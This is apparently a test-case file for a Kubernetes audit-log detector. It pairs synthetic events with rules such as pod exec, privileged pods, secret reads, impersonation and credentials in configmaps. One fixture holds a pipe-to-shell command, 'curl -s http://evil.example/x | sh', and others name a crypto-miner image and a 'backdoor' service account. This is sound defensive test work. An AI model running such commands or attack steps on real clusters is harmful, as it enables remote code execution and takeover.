import type { Severity } from '../../../src/detect/types.js';
import { audit, podSpec, T0, type EventFields } from '../helpers.js';

type Raw = Record<string, unknown>;
export interface Fire {
  name: string;
  events: Raw[];
  message?: string | RegExp;
  severity?: Severity;
  /** how many alerts of the rule (default 1) */
  count?: number;
}
export interface Quiet {
  name: string;
  events: Raw[];
}
export interface Case {
  rule: string;
  fire: Fire[];
  quiet: Quiet[];
}

const CM = 'system:kube-controller-manager';
const RS = 'system:serviceaccount:kube-system:replicaset-controller';
const NODE = 'system:node:worker-1';
const APP_SA = 'system:serviceaccount:default:app';
const ANON = { user: 'system:anonymous', groups: ['system:unauthenticated'] };
const a = (f: EventFields): Raw => audit(f);
const times = (n: number, f: (i: number) => EventFields): Raw[] => Array.from({ length: n }, (_, i) => audit(f(i)));
const exec = (f: EventFields = {}): EventFields => ({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'prod', name: 'api-1', code: 101, stage: 'ResponseStarted', ...f });

const pod = (spec: Raw, f: EventFields = {}): Raw => a({ verb: 'create', resource: 'pods', namespace: 'prod', requestObject: { kind: 'Pod', metadata: { name: 'p' }, spec }, ...f });
const deploy = (spec: Raw, f: EventFields = {}): Raw =>
  a({ verb: 'create', resource: 'deployments', namespace: 'prod', requestObject: { kind: 'Deployment', metadata: { name: 'd' }, spec: { template: { spec } } }, ...f });
const binding = (roleRef: Raw, subjects: Raw[], f: EventFields = {}): Raw =>
  a({ verb: 'create', resource: 'clusterrolebindings', requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'b' }, roleRef, subjects }, ...f });
const role = (rules: Raw[], f: EventFields = {}): Raw => a({ verb: 'create', resource: 'clusterroles', requestObject: { kind: 'ClusterRole', metadata: { name: 'r' }, rules }, ...f });
const cm = (data: Raw, f: EventFields = {}): Raw => a({ verb: 'create', resource: 'configmaps', namespace: 'app', requestObject: { kind: 'ConfigMap', metadata: { name: 'c' }, data }, ...f });
const svc = (spec: Raw, f: EventFields = {}): Raw => a({ verb: 'create', resource: 'services', namespace: 'app', requestObject: { kind: 'Service', metadata: { name: 's' }, spec }, ...f });

export const CASES: Case[] = [
  {
    rule: 'exec-into-pod',
    fire: [
      {
        name: 'exec with a decoded shell pipeline',
        events: [a(exec({ user: 'mallory', query: 'command=sh&command=-c&command=curl+-s+http%3A%2F%2Fevil.example%2Fx+%7C+sh&container=app&stdin=true&tty=true' }))],
        message: "mallory exec into pod prod/api-1 (container app): sh -c 'curl -s http://evil.example/x | sh'",
      },
      { name: 'exec over WebSocket (verb get)', events: [a(exec({ verb: 'get', query: 'command=id' }))], message: 'alice@example.com exec into pod prod/api-1: id' },
      { name: 'a workload service account', events: [a(exec({ user: APP_SA, query: 'command=ls' }))] },
      { name: 'attach', events: [a(exec({ subresource: 'attach', query: 'container=app&tty=true' }))], message: 'alice@example.com attached to pod prod/api-1 (container app) with a TTY' },
    ],
    quiet: [
      { name: 'denied exec', events: [a(exec({ code: 403, stage: 'ResponseComplete' }))] },
      { name: 'control plane', events: [a(exec({ user: NODE }))] },
      { name: 'logs are not exec', events: [a({ resource: 'pods', subresource: 'log', namespace: 'prod', name: 'api-1' })] },
    ],
  },
  {
    rule: 'port-forward',
    fire: [{ name: 'kubectl port-forward', events: [a(exec({ subresource: 'portforward', query: 'ports=5432' }))], message: 'alice@example.com port-forwarded to pod prod/api-1 port 5432' }],
    quiet: [{ name: 'denied', events: [a(exec({ subresource: 'portforward', code: 403, stage: 'ResponseComplete' }))] }],
  },
  {
    rule: 'ephemeral-container',
    fire: [
      {
        name: 'kubectl debug',
        events: [a({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-1', requestObject: { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox' }] } } })],
        message: 'alice@example.com added an ephemeral container to pod prod/api-1 (image busybox)',
      },
    ],
    quiet: [{ name: 'control plane status write', events: [a({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-1', user: NODE })] }],
  },
  {
    rule: 'privileged-pod',
    fire: [
      { name: 'privileged container in a pod', events: [pod(podSpec({}, { securityContext: { privileged: true } }))], message: "alice@example.com created pod prod/p with privileged container 'app'" },
      { name: 'hostPID in a deployment template', events: [deploy(podSpec({ hostPID: true, hostNetwork: true }))], message: 'alice@example.com created deployment prod/d with hostNetwork, hostPID' },
      {
        name: 'cronjob jobTemplate',
        events: [a({ verb: 'create', resource: 'cronjobs', namespace: 'ops', requestObject: { metadata: { name: 'cj' }, spec: { jobTemplate: { spec: { template: { spec: podSpec({ hostIPC: true }) } } } } } })],
        message: 'alice@example.com created cronjob ops/cj with hostIPC',
      },
      {
        name: 'a strategic-merge patch of a daemonset by a CI service account',
        events: [a({ verb: 'patch', resource: 'daemonsets', namespace: 'ops', name: 'agent', user: 'system:serviceaccount:ci:deployer', requestObject: { spec: { template: { spec: { containers: [{ name: 'agent', securityContext: { privileged: true } }] } } } } })],
      },
      {
        name: 'a JSON patch',
        events: [a({ verb: 'patch', resource: 'deployments', namespace: 'prod', name: 'api', requestObject: [{ op: 'add', path: '/spec/template/spec/hostNetwork', value: true }] })],
        message: 'alice@example.com patched deployment prod/api with hostNetwork',
      },
      { name: 'statefulset, jobs', events: [a({ verb: 'create', resource: 'jobs', namespace: 'x', requestObject: { metadata: { name: 'j' }, spec: { template: { spec: podSpec({ hostNetwork: true }) } } } })] },
    ],
    quiet: [
      { name: 'a plain pod', events: [pod(podSpec())] },
      { name: 'privileged: false', events: [pod(podSpec({ hostNetwork: false }, { securityContext: { privileged: false } }))] },
      { name: 'pods the replicaset controller creates from a template', events: [pod(podSpec({ hostNetwork: true }), { user: RS })] },
      { name: 'mirror pods from the kubelet', events: [pod(podSpec({ hostNetwork: true }), { user: NODE })] },
      { name: 'refused by admission', events: [pod(podSpec({ hostPID: true }), { code: 403 })] },
    ],
  },
  {
    rule: 'sensitive-hostpath',
    fire: [
      { name: 'the runtime socket', events: [pod(podSpec({ volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] }))], message: "alice@example.com created pod prod/p with hostPath /var/run/docker.sock (volume 'sock')" },
      { name: '/etc/kubernetes subtree in a statefulset', events: [a({ verb: 'update', resource: 'statefulsets', namespace: 'x', name: 's', requestObject: { spec: { template: { spec: podSpec({ volumes: [{ name: 'k', hostPath: { path: '/etc/kubernetes/pki/' } }] }) } } } })] },
    ],
    quiet: [
      { name: 'a log directory', events: [pod(podSpec({ volumes: [{ name: 'logs', hostPath: { path: '/var/log/app' } }] }))] },
      { name: 'emptyDir', events: [pod(podSpec({ volumes: [{ name: 'tmp', emptyDir: {} }] }))] },
    ],
  },
  {
    rule: 'dangerous-capabilities',
    fire: [{ name: 'SYS_ADMIN', events: [pod(podSpec({}, { securityContext: { capabilities: { add: ['CAP_SYS_ADMIN', 'NET_BIND_SERVICE'] } } }))], message: "alice@example.com created pod prod/p with capabilities SYS_ADMIN on 'app'" }],
    quiet: [{ name: 'NET_BIND_SERVICE only', events: [pod(podSpec({}, { securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }))] }],
  },
  {
    rule: 'kube-system-pod-image',
    fire: [
      {
        name: 'a controller creating a pod with an unknown image in kube-system',
        events: [pod({ containers: [{ name: 'm', image: 'docker.io/xmrig/xmrig:latest' }] }, { namespace: 'kube-system', user: RS })],
        message: 'system:serviceaccount:kube-system:replicaset-controller created pod kube-system/p running image docker.io/xmrig/xmrig:latest not on the system-image list',
      },
      { name: 'a short Docker Hub name in kube-public', events: [pod({ containers: [{ name: 'm', image: 'nginx' }] }, { namespace: 'kube-public' })] },
    ],
    quiet: [
      { name: 'system images', events: [pod({ containers: [{ name: 'c', image: 'registry.k8s.io/coredns/coredns:v1.11.1' }, { name: 'k', image: 'calico/node:v3.27' }] }, { namespace: 'kube-system', user: RS })] },
      { name: 'other namespaces', events: [pod({ containers: [{ name: 'm', image: 'nginx' }] }, { namespace: 'default' })] },
    ],
  },
  {
    rule: 'system-namespace-workload',
    fire: [
      { name: 'a person creating a deployment in kube-system', events: [a({ verb: 'create', resource: 'deployments', namespace: 'kube-system', name: 'x' })], message: 'alice@example.com created deployment kube-system/x' },
      { name: 'a ServiceAccount in kube-system (name from the body)', events: [a({ verb: 'create', resource: 'serviceaccounts', namespace: 'kube-system', requestObject: { metadata: { name: 'backdoor' } } })], message: 'alice@example.com created serviceaccount kube-system/backdoor' },
    ],
    quiet: [
      { name: 'the control plane', events: [a({ verb: 'create', resource: 'serviceaccounts', namespace: 'kube-system', name: 'x', user: CM })] },
      { name: 'elsewhere', events: [a({ verb: 'create', resource: 'deployments', namespace: 'app', name: 'x' })] },
    ],
  },
  {
    rule: 'privileged-binding',
    fire: [
      {
        name: 'cluster-admin to a default service account',
        events: [binding({ kind: 'ClusterRole', name: 'cluster-admin' }, [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }], { user: 'mallory' })],
        message: 'mallory created clusterrolebinding b: ClusterRole cluster-admin bound to ServiceAccount default/default',
        severity: 'critical',
      },
      { name: 'controller roles', events: [binding({ kind: 'ClusterRole', name: 'system:controller:clusterrole-aggregation-controller' }, [{ kind: 'User', name: 'x' }])] },
      { name: 'any role to system:anonymous', events: [binding({ kind: 'ClusterRole', name: 'view' }, [{ kind: 'User', name: 'system:anonymous' }])] },
      { name: 'a namespaced admin binding by a workload', events: [a({ verb: 'create', resource: 'rolebindings', namespace: 'prod', user: APP_SA, requestObject: { metadata: { name: 'rb' }, roleRef: { kind: 'ClusterRole', name: 'admin' }, subjects: [{ kind: 'User', name: 'bob' }] } })] },
      { name: 'a group of superusers', events: [binding({ kind: 'ClusterRole', name: 'view' }, [{ kind: 'Group', name: 'system:masters' }])] },
    ],
    quiet: [
      { name: 'view to a user', events: [binding({ kind: 'ClusterRole', name: 'view' }, [{ kind: 'User', name: 'bob' }])] },
      { name: 'the control plane reconciling bootstrap bindings', events: [binding({ kind: 'ClusterRole', name: 'cluster-admin' }, [{ kind: 'Group', name: 'system:masters' }], { user: 'system:apiserver' })] },
    ],
  },
  {
    rule: 'wildcard-role',
    fire: [{ name: 'verbs *', events: [role([{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }])], message: 'alice@example.com created clusterrole r with wildcard rule verbs [*] on [pods]' }],
    quiet: [{ name: 'specific verbs', events: [role([{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] }])] }],
  },
  {
    rule: 'escalating-role',
    fire: [
      { name: 'bind and escalate: high', events: [role([{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind', 'escalate'] }])], message: /that grants bind on clusterroles; escalate on clusterroles$/, severity: 'high' },
      { name: 'pods/exec: medium', events: [role([{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }])], severity: 'medium' },
    ],
    quiet: [{ name: 'read-only', events: [role([{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }])] }],
  },
  {
    rule: 'rbac-change',
    fire: [
      { name: 'a person deleting a role', events: [a({ verb: 'delete', resource: 'roles', namespace: 'app', name: 'reader' })], message: 'alice@example.com deleted role app/reader' },
      { name: 'a harmless binding by a workload', events: [binding({ kind: 'ClusterRole', name: 'view' }, [{ kind: 'User', name: 'bob' }], { user: APP_SA })] },
    ],
    quiet: [
      { name: 'the control plane', events: [a({ verb: 'update', resource: 'clusterroles', name: 'admin', user: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' })] },
      { name: "OpenShift's platform operators", events: [a({ verb: 'patch', resource: 'roles', namespace: 'openshift-multus', name: 'prometheus-k8s', user: 'system:serviceaccount:openshift-network-operator:default' })] },
      { name: 'reads', events: [a({ verb: 'get', resource: 'clusterroles', name: 'admin' })] },
    ],
  },
  {
    rule: 'secret-read',
    fire: [
      { name: 'a person reading a secret', events: [a({ verb: 'get', resource: 'secrets', namespace: 'prod', name: 'db', user: 'mallory' })], message: 'mallory read secret prod/db' },
      { name: "a namespace's default ServiceAccount", events: [a({ verb: 'get', resource: 'secrets', namespace: 'shop', name: 'db', user: 'system:serviceaccount:shop:default', userAgent: 'app/1.0' })], message: 'system:serviceaccount:shop:default read secret shop/db (as the default ServiceAccount of shop)' },
      { name: "a workload reading another namespace's secret", events: [a({ verb: 'get', resource: 'secrets', namespace: 'payments', name: 'db', user: 'system:serviceaccount:shop:web', userAgent: 'web/1.0' })], message: 'system:serviceaccount:shop:web read secret payments/db (outside its namespace shop)' },
      { name: 'a workload with curl', events: [a({ verb: 'list', resource: 'secrets', namespace: 'app', user: APP_SA, userAgent: 'curl/8.5.0' })], message: 'system:serviceaccount:default:app listed secrets in namespace app with curl/8.5.0' },
    ],
    quiet: [
      { name: 'a workload reading its own namespace with client-go', events: [a({ verb: 'get', resource: 'secrets', namespace: 'default', name: 'tls', user: APP_SA, userAgent: 'cert-manager/v1.14 (linux/amd64) kubernetes/abc' })] },
      { name: 'helm reading its release state', events: [a({ verb: 'list', resource: 'secrets', namespace: 'app', query: 'labelSelector=name%3Dweb%2Cowner%3Dhelm', userAgent: 'Helm/3.14.0' }), a({ verb: 'get', resource: 'secrets', namespace: 'app', name: 'sh.helm.release.v1.web.v3' })] },
      { name: 'the kubelet', events: [a({ verb: 'get', resource: 'secrets', namespace: 'app', name: 'tls', user: NODE })] },
      { name: 'refused', events: [a({ verb: 'get', resource: 'secrets', namespace: 'prod', name: 'db', code: 403 })] },
    ],
  },
  {
    rule: 'secret-list-cluster-wide',
    fire: [{ name: 'kubectl get secrets -A', events: [a({ verb: 'list', resource: 'secrets', user: APP_SA })], message: 'system:serviceaccount:default:app listed secrets in all namespaces' }],
    quiet: [{ name: 'the control plane', events: [a({ verb: 'list', resource: 'secrets', user: CM })] }],
  },
  {
    rule: 'anonymous-allowed',
    fire: [{ name: 'anonymous list of pods', events: [a({ ...ANON, verb: 'list', resource: 'pods', sourceIP: '203.0.113.66' })], severity: 'high', message: 'anonymous request from 203.0.113.66 allowed: list pods' }],
    quiet: [
      { name: '/version is public', events: [a({ ...ANON, resource: '', uri: '/version' })] },
      { name: 'health', events: [a({ ...ANON, resource: '', uri: '/readyz' })] },
    ],
  },
  {
    rule: 'anonymous-denied',
    fire: [{ name: 'a probe for secrets', events: [a({ ...ANON, verb: 'list', resource: 'secrets', namespace: 'kube-system', code: 403, sourceIP: '203.0.113.66' })], severity: 'low' }],
    quiet: [{ name: 'a person refused', events: [a({ verb: 'list', resource: 'secrets', code: 403 })] }],
  },
  {
    rule: 'auth-failure-burst',
    fire: [
      { name: '12 refusals for one user in a minute: one alert', events: times(12, (i) => ({ verb: 'list', resource: 'secrets', namespace: `ns${i}`, code: 403, user: 'mallory', at: T0 + i * 2000 })), message: /^mallory: 10 requests refused \(401\/403\) within 60 s/ },
      { name: '401s from one address', events: times(10, (i) => ({ user: '', groups: [], code: 401, sourceIP: '198.51.100.7', at: T0 + i * 100 })), message: /^unauthenticated callers from 198\.51\.100\.7: 10 requests refused/ },
    ],
    quiet: [
      { name: 'spread over ten minutes', events: times(12, (i) => ({ code: 403, user: 'mallory', at: T0 + i * 60_000 })) },
      { name: '404s are not refusals', events: times(20, () => ({ code: 404 })) },
    ],
  },
  {
    rule: 'permission-enumeration',
    fire: [
      { name: 'can-i --list', events: [a({ verb: 'create', resource: 'selfsubjectrulesreviews', code: 201 })], message: 'alice@example.com listed its own permissions (kubectl auth can-i --list)' },
      { name: '20 access reviews in a minute', events: times(25, (i) => ({ verb: 'create', resource: 'selfsubjectaccessreviews', code: 201, at: T0 + i * 1000 })) },
    ],
    quiet: [{ name: 'a few can-i checks', events: times(5, () => ({ verb: 'create', resource: 'selfsubjectaccessreviews', code: 201 })) }],
  },
  {
    rule: 'protected-namespace-delete',
    fire: [
      { name: 'delete in prod', events: [a({ verb: 'delete', resource: 'deployments', namespace: 'prod', name: 'payments', user: 'mallory' })], message: 'mallory deleted deployment prod/payments' },
      { name: 'delete in a prod-* namespace', events: [a({ verb: 'delete', resource: 'configmaps', namespace: 'prod-eu', name: 'x' })] },
      { name: 'delete of kube-system itself', events: [a({ verb: 'delete', resource: 'namespaces', name: 'kube-system' })], message: 'alice@example.com deleted namespace kube-system' },
    ],
    quiet: [
      { name: 'garbage collection', events: [a({ verb: 'delete', resource: 'pods', namespace: 'prod', name: 'x', user: 'system:serviceaccount:kube-system:generic-garbage-collector' })] },
      { name: 'staging', events: [a({ verb: 'delete', resource: 'pods', namespace: 'staging', name: 'x' })] },
      { name: 'not found', events: [a({ verb: 'delete', resource: 'pods', namespace: 'prod', name: 'x', code: 404 })] },
    ],
  },
  {
    rule: 'bulk-delete',
    fire: [
      { name: 'deletecollection', events: [a({ verb: 'deletecollection', resource: 'pods', namespace: 'app' })], message: 'alice@example.com deleted all pods in namespace app' },
      { name: '25 deletes in a minute: one alert', events: times(25, (i) => ({ verb: 'delete', resource: 'pods', namespace: 'app', name: `p${i}`, at: T0 + i * 1000 })), message: /^alice@example.com deleted 20 objects within 60 s/ },
    ],
    quiet: [
      { name: 'the namespace controller', events: [a({ verb: 'deletecollection', resource: 'pods', namespace: 'gone', user: 'system:serviceaccount:kube-system:namespace-controller' })] },
      { name: 'a few deletes', events: times(5, (i) => ({ verb: 'delete', resource: 'pods', namespace: 'app', name: `p${i}` })) },
    ],
  },
  {
    rule: 'impersonation',
    fire: [
      { name: 'as system:admin: critical', events: [a({ user: 'mallory', impersonate: 'system:admin', verb: 'list', resource: 'nodes' })], severity: 'critical', message: 'mallory impersonated system:admin: list nodes' },
      { name: 'into system:masters', events: [a({ user: 'mallory', impersonate: 'bob', impersonateGroups: ['system:masters'], verb: 'get', resource: 'pods', namespace: 'x', name: 'y' })], severity: 'critical' },
      { name: 'an ordinary user: medium, once per pair per 10 minutes', events: times(5, (i) => ({ user: 'admin', impersonate: 'bob', at: T0 + i * 1000 })), severity: 'medium' },
    ],
    quiet: [{ name: 'no impersonation', events: [a({ user: 'bob' })] }],
  },
  {
    rule: 'serviceaccount-token',
    fire: [{ name: 'kubectl create token', events: [a({ verb: 'create', resource: 'serviceaccounts', subresource: 'token', namespace: 'prod', name: 'deployer', code: 201 })], message: 'alice@example.com requested a token for ServiceAccount prod/deployer' }],
    quiet: [{ name: 'kubelet for projected volumes', events: [a({ verb: 'create', resource: 'serviceaccounts', subresource: 'token', namespace: 'prod', name: 'app', code: 201, user: NODE })] }],
  },
  {
    rule: 'node-proxy',
    fire: [{ name: 'kubelet run via the API server', events: [a({ verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'worker-1', uri: '/api/v1/nodes/worker-1/proxy/run/default/x/y' })], message: 'alice@example.com reached the kubelet API of node worker-1 via nodes/proxy: create /run/default/x/y' }],
    quiet: [{ name: 'the API server itself', events: [a({ verb: 'get', resource: 'nodes', subresource: 'proxy', name: 'worker-1', user: 'system:apiserver' })] }],
  },
  {
    rule: 'admission-webhook-change',
    fire: [
      { name: 'a new mutating webhook', events: [a({ verb: 'create', resource: 'mutatingwebhookconfigurations', requestObject: { metadata: { name: 'inject' } } })], message: 'alice@example.com created mutating webhook configuration inject' },
      { name: 'a workload deleting a validating webhook', events: [a({ verb: 'delete', resource: 'validatingwebhookconfigurations', name: 'policy', user: APP_SA })] },
    ],
    quiet: [{ name: 'cainjector updating caBundle', events: [a({ verb: 'update', resource: 'validatingwebhookconfigurations', name: 'cert-manager', user: 'system:serviceaccount:cert-manager:cert-manager-cainjector' })] }],
  },
  {
    rule: 'csr-created',
    fire: [{ name: 'a person creating a CSR', events: [a({ verb: 'create', resource: 'certificatesigningrequests', code: 201, requestObject: { metadata: { name: 'me' }, spec: { signerName: 'kubernetes.io/kube-apiserver-client' } } })], message: 'alice@example.com created CSR me for signer kubernetes.io/kube-apiserver-client' }],
    quiet: [
      { name: 'a kubelet', events: [a({ verb: 'create', resource: 'certificatesigningrequests', code: 201, user: NODE })] },
      { name: 'node bootstrap', events: [a({ verb: 'create', resource: 'certificatesigningrequests', code: 201, user: 'system:bootstrap:abcdef' })] },
    ],
  },
  {
    rule: 'csr-approved',
    fire: [{ name: 'kubectl certificate approve', events: [a({ verb: 'update', resource: 'certificatesigningrequests', subresource: 'approval', name: 'me' })], message: 'alice@example.com approved CSR me' }],
    quiet: [{ name: 'the csrapproving controller', events: [a({ verb: 'update', resource: 'certificatesigningrequests', subresource: 'approval', name: 'node-csr', user: 'system:serviceaccount:kube-system:certificate-controller' })] }],
  },
  {
    rule: 'nodeport-service',
    fire: [{ name: 'type NodePort', events: [svc({ type: 'NodePort', ports: [{ port: 80, nodePort: 30080 }] })], message: 'alice@example.com created NodePort service app/s on node port 30080' }],
    quiet: [{ name: 'ClusterIP', events: [svc({ type: 'ClusterIP', ports: [{ port: 80 }] })] }],
  },
  {
    rule: 'events-deleted',
    fire: [{ name: 'deleting events', events: [a({ verb: 'deletecollection', resource: 'events', namespace: 'prod' })], message: 'alice@example.com deleted all events in namespace prod' }],
    quiet: [{ name: 'reading events', events: [a({ verb: 'list', resource: 'events', namespace: 'prod' })] }],
  },
  {
    rule: 'untrusted-source-ip',
    fire: [{ name: 'a patch from the internet', events: [a({ verb: 'patch', resource: 'deployments', namespace: 'app', name: 'web', sourceIP: '198.51.100.23' })], message: 'alice@example.com from 198.51.100.23: patched deployment app/web' }],
    quiet: [
      { name: 'from the office network', events: [a({ verb: 'patch', resource: 'deployments', namespace: 'app', name: 'web', sourceIP: '192.168.1.20' })] },
      { name: 'a read from outside', events: [a({ verb: 'get', resource: 'pods', namespace: 'app', sourceIP: '198.51.100.23' })] },
      { name: 'IPv6 unique-local', events: [a({ verb: 'create', resource: 'configmaps', namespace: 'app', sourceIP: 'fd00::12' })] },
      { name: 'a redacted address', events: [a({ verb: 'update', resource: 'configmaps', namespace: 'app', sourceIP: '99.999.999.999' })] },
    ],
  },
  {
    rule: 'request-rate-spike',
    fire: [
      {
        name: 'an identity seen since the start jumps from 1/s to 15/s',
        events: [...times(600, (i) => ({ user: 'scraper', at: T0 + i * 1000 })), ...times(700, (i) => ({ user: 'scraper', at: T0 + 600_000 + i * 66 }))],
        message: /^scraper made 600 requests within 60 s \(usual: \d+\/min/,
      },
      {
        name: 'a new identity at 15/s right away',
        events: [a({ user: 'old', at: T0 }), ...times(700, (i) => ({ user: 'newcomer', at: T0 + 700_000 + i * 66 }))],
        message: /^newcomer made 600 requests within 60 s \(usual: 91\/min/,
      },
    ],
    quiet: [
      { name: 'a steady busy identity (30/s from the start)', events: times(30_000, (i) => ({ user: 'system:serviceaccount:ci:deployer', at: T0 + i * 33 })) },
      { name: 'a burst in the first minutes of the log (no baseline yet)', events: times(700, (i) => ({ user: 'dev', at: T0 + i * 66 })) },
      { name: 'the control plane', events: times(2000, (i) => ({ user: NODE, at: T0 + 700_000 + i * 10 })) },
    ],
  },
  {
    rule: 'new-identity-mass-create',
    fire: [
      {
        name: 'a token first seen an hour in, creating 25 pods',
        events: [a({ user: 'old', at: T0 }), ...times(25, (i) => ({ user: 'system:serviceaccount:ci:stolen', verb: 'create', resource: 'pods', namespace: 'x', code: 201, at: T0 + 3_600_000 + i * 1000 }))],
        message: /^system:serviceaccount:ci:stolen, first seen 1 min ago, created 20 objects within 5 min/,
      },
    ],
    quiet: [
      { name: 'identities seen in the warm-up', events: times(25, (i) => ({ user: 'ci', verb: 'create', resource: 'pods', namespace: 'x', code: 201, at: T0 + i * 1000 })) },
      { name: 'a new identity creating a few', events: [a({ user: 'old', at: T0 }), ...times(5, (i) => ({ user: 'newbie', verb: 'create', resource: 'pods', namespace: 'x', code: 201, at: T0 + 3_600_000 + i }))] },
    ],
  },
  {
    rule: 'slow-request',
    fire: [{ name: 'a 14 s list', events: [a({ verb: 'list', resource: 'pods', latencyMs: 14_000 })], message: 'alice@example.com: list pods took 14 s (→ 200)' }],
    quiet: [
      { name: 'a watch', events: [a({ verb: 'watch', resource: 'pods', latencyMs: 300_000 })] },
      { name: 'a long exec', events: [a(exec({ stage: 'ResponseComplete', latencyMs: 600_000 }))] },
      { name: 'logs -f', events: [a({ resource: 'pods', subresource: 'log', namespace: 'x', name: 'y', latencyMs: 100_000 })] },
    ],
  },
  {
    rule: 'panic',
    fire: [{ name: 'Panic stage', events: [a({ stage: 'Panic', code: 500, verb: 'list', resource: 'pods' })], severity: 'high' }],
    quiet: [{ name: 'a 500', events: [a({ code: 500 })] }],
  },
  {
    rule: 'configmap-credentials',
    fire: [
      { name: 'a password key', events: [cm({ DB_PASSWORD: 'hunter22' })], message: 'alice@example.com created configmap app/c with credential-like data in DB_PASSWORD' },
      { name: 'camelCase and AWS keys', events: [cm({ apiKey: 'k-123456', AWS_SECRET_ACCESS_KEY: 'abcd' })], message: 'alice@example.com created configmap app/c with credential-like data in apiKey, AWS_SECRET_ACCESS_KEY' },
      { name: 'a properties file with a literal password', events: [cm({ 'application.properties': 'spring.datasource.url=jdbc:x\nspring.datasource.password=s3cr3tvalue\n' })] },
      { name: 'a private key', events: [cm({ 'id_rsa': '-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n' })] },
    ],
    quiet: [
      { name: 'plain config', events: [cm({ LOG_LEVEL: 'debug', 'nginx.conf': 'server { listen 80; }' })] },
      { name: 'a placeholder', events: [cm({ 'app.yaml': 'password: ${DB_PASSWORD}', TOKEN_PATH: '${TOKEN}' })] },
      { name: 'keys that only mention a credential', events: [cm({ SECRET_NAME: 'db-creds', TOKEN_AUDIENCE: 'api', tokenPath: '/var/run/secrets/token', ACCESS_KEY_ID: 'x' })] },
      { name: 'a CA bundle from the control plane', events: [cm({ 'ca.crt': '-----BEGIN CERTIFICATE-----' }, { user: 'system:serviceaccount:kube-system:root-ca-cert-publisher' })] },
    ],
  },
];
